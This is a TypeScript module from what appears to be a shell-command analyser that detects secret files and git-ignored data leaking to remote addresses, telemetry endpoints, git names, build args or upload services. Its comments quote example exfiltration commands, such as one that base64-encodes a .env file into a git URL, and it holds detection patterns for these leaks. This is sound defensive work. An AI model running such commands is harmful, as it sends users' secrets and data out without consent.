import { baseOf } from '../base-name.ts'
import type { Effect } from '../effects.ts'
import type { Facts } from '../facts.ts'
import { addressOf, urlParts } from '../hosts.ts'
import { isKeptData } from '../ignored-data.ts'
import type { PathUse } from '../paths.ts'
import { families, familyFor } from '../programs/registry.ts'
import { isSecretName, isSecretOrigin } from '../secrets.ts'
import { isSendingWord } from '../sending-words.ts'
import { wordsOf } from '../verbs.ts'
import type { Command, DataSource, Word } from '../words.ts'
import { stateKeptOut } from './kept-out.ts'
import type { CoreScribe } from './scribe.ts'
import { optionAt } from './slots.ts'
import { carriedSources } from './values.ts'

/** The same for a command that only starts another: what is set for it is set for that one. */
export function stateCarriedThrough(command: Command, scribe: CoreScribe): void {
  stateNames(command, scribe)
  stateTelemetry(command, scribe)
}

/** What the content of a secret file is put into, word by word, whatever the program: an address, a name that git keeps, a build, telemetry. */
export function stateCarriedWords(command: Command, stated: readonly Effect[], scribe: CoreScribe): void {
  const sent = stated.some((effect) => effect.kind === 'send-data' && effect.payload.some(isSecretOrigin))
  if (sent) return
  stateAddresses(command, scribe)
  stateNames(command, scribe)
  stateTelemetry(command, scribe)
  stateIgnoredData(command, scribe)
  stateKeptOut(command, scribe)
}

function filesIn({ sources }: Pick<Word, 'sources'>, facts: Facts): readonly DataSource[] {
  if (sources.length === 0) return []
  return carriedSources(sources, facts).filter((source) => source.kind === 'file' && isSecretOrigin(source))
}

/** `git ls-remote https://host/$(base64 .env)`: whoever asks for an address tells it. */
function stateAddresses({ args }: Command, scribe: CoreScribe): void {
  for (const word of args) {
    if (!word.dynamic || !word.known.includes('://')) continue
    const { host } = urlParts(word.known.slice(word.known.search(/[a-z][a-z0-9+.-]*:\/\//i)))
    const payload = filesIn(word, scribe.facts)
    if (payload.length > 0 && addressOf(host) !== 'loopback')
      scribe.effect({
        kind: 'send-data',
        host: host.replaceAll('\0', '…'),
        channel: 'other',
        payload,
        certainty: 'likely',
      })
  }
}

/** Branches, tags and notes go with the next push; what a build is given stays in the image. */
function stateNames(command: Command, scribe: CoreScribe): void {
  const git = baseOf(command) === 'git'
  if (!git && familyFor(command.name ?? '') !== 'containers') return
  command.args.forEach((word, at) => {
    if (!word.dynamic || (!git && optionAt(command.args, at) !== 'build-arg' && !word.known.startsWith('--build-arg')))
      return
    const [source] = filesIn(word, scribe.facts)
    if (source) scribe.effect({ kind: 'expose-secret', source, sink: 'file', certainty: 'likely' })
  })
}

const TELEMETRY =
  /(?:^|_)(?:OTEL|OTLP|SENTRY|DSN|DD|DATADOG|STATSD|PROXY|ENDPOINT|COLLECTOR|TELEMETRY|TRACES?|TRACING|HONEYCOMB|RELIC|LOGSTASH|SYSLOG|WEBHOOK|EXPORTER|METRICS|ANALYTICS|SEGMENT|REPORT(?:ER)?)(?:_|$)/i

/** A program reports to the place that one variable names, and with it what the others hold that are no credentials. */
function stateTelemetry({ assignments }: Command, scribe: CoreScribe): void {
  if (assignments.length === 0) return
  const places = assignments.flatMap(({ name, value }) => {
    if (!TELEMETRY.test(name)) return []
    const host = value.known.includes('://') ? urlParts(value.known).host : /_HOST$/.test(name) ? value.known : ''
    return host === '' || addressOf(host) === 'loopback' || addressOf(host) === 'private' ? [] : [host]
  })
  const [host] = places
  if (host === undefined) return
  const payload = assignments.flatMap(({ name, value }) =>
    isSecretName(name) && !value.known.includes('://') ? [] : filesIn(value, scribe.facts),
  )
  if (payload.length > 0)
    scribe.effect({
      kind: 'send-data',
      host: host.replaceAll('\0', '…'),
      channel: 'http',
      payload,
      certainty: 'likely',
    })
}

/** What a word tells of data files: `--body "$(gzip -c data/users.csv | base64)"`. */
function contentIn({ sources }: Word, scribe: CoreScribe): readonly PathUse[] {
  return sources.flatMap((source) =>
    source.kind === 'file' && isKeptData(source.path, scribe.facts) ? [scribe.pathOf(source.path)] : [],
  )
}

/** An address among its words, or in a variable that says where to report to. */
function namesPlace({ args, assignments }: Command): boolean {
  const addresses = [
    ...args.map(({ known }) => known),
    ...assignments.filter(({ name }) => TELEMETRY.test(name)).map(({ value }) => value.known),
  ]
  return addresses.some((text) => {
    const start = text.search(/[a-z][a-z0-9+.-]*:\/\//i)
    return start >= 0 && !/^(?:loopback|private)$/.test(addressOf(urlParts(text.slice(start)).host))
  })
}

/** Programs that send what they are given elsewhere, unless a reader of theirs says what and where to. */
const SENDERS = families(undefined, 'cloud', 'hosting', 'packages', 'build')
const GIVES = /^(?:deploy\w*|sync|log|artifacts?|datasets?|create|import|ingest|backup)$/

/** A folder or a data file that git ignores is handed to something that uploads: it was kept out of every repository. */
function stateIgnoredData(command: Command, scribe: CoreScribe): void {
  const { name = '', args } = command
  if (!SENDERS.has(familyFor(name))) return
  const [content] = args.flatMap((word) => contentIn(word, scribe))
  const operands = args.filter(({ known }) => /^[a-z][a-z:_-]{1,30}$/.test(known)).slice(0, 4)
  const words = [baseOf(command), ...operands.map(({ known }) => known)].flatMap(wordsOf)
  const sends = words.some(isSendingWord)
  if (content !== undefined && (sends || namesPlace(command))) {
    stateHandedOut(content, command, scribe)
    return
  }
  if (!sends && !(words.some((word) => GIVES.test(word)) && isService(words))) return
  for (const path of args.flatMap((word) => namedBy(word, scribe))) if (stateHandedOut(path, command, scribe)) return
}

function namedBy({ text: whole }: Word, scribe: CoreScribe): readonly PathUse[] {
  const text = whole?.replace(/^--?[\w-]+=/, '')
  return text === undefined || text === '' || text.startsWith('-') || /[:*?]/.test(text) ? [] : [scribe.pathOf(text)]
}

/** A person may well have asked for it: what they keep out of git is not secret for that. */
function stateHandedOut(path: PathUse, command: Command, scribe: CoreScribe): boolean {
  const { real, zone, tags } = path
  if (real === undefined || zone !== 'project' || tags.includes('build-artefact') || path.sessionMade) return false
  if (!/^(?:file|directory)$/.test(scribe.facts.file(real).kind) || scribe.facts.tracked(real) !== 'ignored')
    return false
  scribe.effect({
    kind: 'external-write',
    service: baseOf(command),
    nature: 'file',
    target: path.text,
    certainty: 'likely',
  })
  return true
}

/** Services that hold artefacts, pages and data sets, by what their tools are called. */
const SERVICES =
  /^(?:vercel|netlify|surge|wandb|kaggle|huggingface|hf|mlflow|neptune|comet|dvc|firebase|wrangler|render|fly|flyctl|railway|heroku|now|surge|gh|glab|supabase|s3|gsutil|b2|rclone|artifactory|jfrog|clearml|aim)$/

function isService(words: readonly string[]): boolean {
  return words.some((word) => SERVICES.test(word))
}
